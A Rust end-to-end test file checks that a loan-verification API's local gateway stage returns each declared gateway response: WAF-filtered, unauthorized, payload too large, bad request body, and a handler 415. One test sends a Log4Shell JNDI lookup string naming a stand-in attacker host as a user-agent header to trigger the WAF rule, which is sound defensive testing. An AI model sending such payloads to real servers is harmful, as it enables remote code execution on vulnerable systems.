//! The local stage answers as API Gateway does before a handler runs, over real HTTP: each
//! refusal is the gateway response `modules/api/openapi.yaml.tftpl` declares for it (status,
//! headers, body), read from the template here, and nothing is written.
//!
//! ACCESS_DENIED and UNSUPPORTED_MEDIA_TYPE are declared too but API Gateway does not send them
//! for this API: the Cognito user pool authorizer answers every token it rejects with
//! UNAUTHORIZED, and `aws_proxy` integrations pass any content type to the handler, which
//! answers 415 itself (checked below). The local stage's unit tests render both from the
//! template (`handlers/local-stage/src/openapi.rs`).

use std::sync::Arc;

use anyhow::{ensure, Context, Result};
use lendverify_e2e::{fixtures, World};
use lendverify_local_stage::gateway::{MAX_PAYLOAD_BYTES, STAGE};
use lendverify_local_stage::openapi::TEMPLATE;
use serde_json::{json, Value};

/// The gateway response the template declares under `name`, with the stage's origin.
fn declared(w: &World, name: &str) -> Result<Value> {
    let origin = &w.stage.outputs.handler_environment["ALLOWED_ORIGIN"];
    let document: Value = serde_yaml_ng::from_str(&TEMPLATE.replace("${allowed_origin}", origin))?;
    let response = document["x-amazon-apigateway-gateway-responses"][name].clone();
    ensure!(response.is_object(), "the template declares no {name}");
    Ok(response)
}

/// The answer is the declared gateway response: its status, each of its headers, and its body
/// field by field (`$context.path` is the stage and the path, `$context.requestId` an id,
/// `$context.error.messageString` API Gateway's message).
async fn expect_gateway_response(
    w: &World,
    response: reqwest::Response,
    name: &str,
    path: &str,
) -> Result<()> {
    let declared = declared(w, name)?;
    let status = response.status();
    let headers = response.headers().clone();
    let body: Value = response.json().await.context("a JSON body")?;
    ensure!(
        Some(status.as_str()) == declared["statusCode"].as_str(),
        "{name}: status {status}, declared {}: {body}",
        declared["statusCode"]
    );
    for (key, value) in declared["responseParameters"]
        .as_object()
        .context("headers")?
    {
        let header = key.trim_start_matches("gatewayresponse.header.");
        let value = value.as_str().unwrap_or_default().trim_matches('\'');
        ensure!(
            headers.get(header).and_then(|v| v.to_str().ok()) == Some(value),
            "{name}: {header} is {:?}, declared {value:?}",
            headers.get(header)
        );
    }
    // The template is JSON once its one unquoted variable is quoted.
    let template: Value = serde_json::from_str(
        &declared["responseTemplates"]["application/json"]
            .as_str()
            .context("body template")?
            .replace(
                "$context.error.messageString",
                "\"$context.error.messageString\"",
            ),
    )?;
    let fields = template.as_object().context("an object template")?;
    ensure!(
        body.as_object().map(|b| b.len()) == Some(fields.len()),
        "{name}: {body} has other fields than {template}"
    );
    for (field, declared_value) in fields {
        let actual = &body[field];
        let matches = match declared_value.as_str() {
            Some("$context.path") => *actual == format!("/{STAGE}{path}"),
            Some("$context.requestId") => actual.as_str().is_some_and(|id| !id.is_empty()),
            Some("$context.error.messageString") => actual.as_str().is_some_and(|m| !m.is_empty()),
            _ => actual == declared_value,
        };
        ensure!(
            matches,
            "{name}: {field} is {actual}, declared {declared_value}"
        );
    }
    Ok(())
}

pub async fn gateway_responses_are_the_templates(w: Arc<World>) -> Result<()> {
    let api = w.user("gwen").await?;
    let app = api.create_application(fixtures::applicant()).await?;
    let token = w.token("gwen@example.com").await?;
    let url = |path: &str| format!("{}{path}", w.stage.api_url);
    let before = w.item_count().await?;

    // The web ACL's Log4j rule, before anything else.
    let response = w
        .http
        .get(url("/applications"))
        .bearer_auth(&token)
        .header("user-agent", "${jndi:ldap://attacker.example/a}")
        .send()
        .await?;
    expect_gateway_response(&w, response, "WAF_FILTERED", "/applications").await?;

    // A path the API does not have.
    let response = w
        .http
        .get(url("/nowhere"))
        .bearer_auth(&token)
        .send()
        .await?;
    expect_gateway_response(&w, response, "MISSING_AUTHENTICATION_TOKEN", "/nowhere").await?;

    // No ID token, and one that does not verify.
    let response = w.http.get(url("/applications")).send().await?;
    expect_gateway_response(&w, response, "UNAUTHORIZED", "/applications").await?;
    let response = w
        .http
        .get(url("/applications"))
        .bearer_auth("not.a.token")
        .send()
        .await?;
    expect_gateway_response(&w, response, "UNAUTHORIZED", "/applications").await?;

    // Over API Gateway's payload limit.
    let uploads = format!("/applications/{app}/uploads");
    let response = w
        .http
        .post(url(&uploads))
        .bearer_auth(&token)
        .header("content-type", "application/json")
        .body(vec![b' '; MAX_PAYLOAD_BYTES + 1])
        .send()
        .await?;
    expect_gateway_response(&w, response, "REQUEST_TOO_LARGE", &uploads).await?;

    // The body-and-params validator: an unknown property, and a value outside the enum.
    let consent = format!("/applications/{app}/consent");
    let response = w
        .http
        .put(url(&consent))
        .bearer_auth(&token)
        .json(&json!({ "policyVersion": "biometric-2026-11", "givenAt": "now" }))
        .send()
        .await?;
    expect_gateway_response(&w, response, "BAD_REQUEST_BODY", &consent).await?;
    let response = w
        .http
        .post(url(&uploads))
        .bearer_auth(&token)
        .json(&json!({ "purpose": "ID_FRONT", "contentType": "image/gif", "contentLength": 1 }))
        .send()
        .await?;
    expect_gateway_response(&w, response, "BAD_REQUEST_BODY", &uploads).await?;

    // Another content type has no model to validate against: the handler answers it.
    let response = w
        .http
        .put(url(&consent))
        .bearer_auth(&token)
        .header("content-type", "text/plain")
        .body("biometric-2026-11")
        .send()
        .await?;
    ensure!(
        response.status() == 415,
        "text/plain: {}",
        response.status()
    );
    let problem: Value = response.json().await?;
    ensure!(
        problem["type"]
            .as_str()
            .is_some_and(|t| t.ends_with("/unsupported-media-type")),
        "the handler's 415, not a gateway response: {problem}"
    );

    ensure!(
        w.item_count().await? == before,
        "a refused request wrote an item"
    );
    Ok(())
}
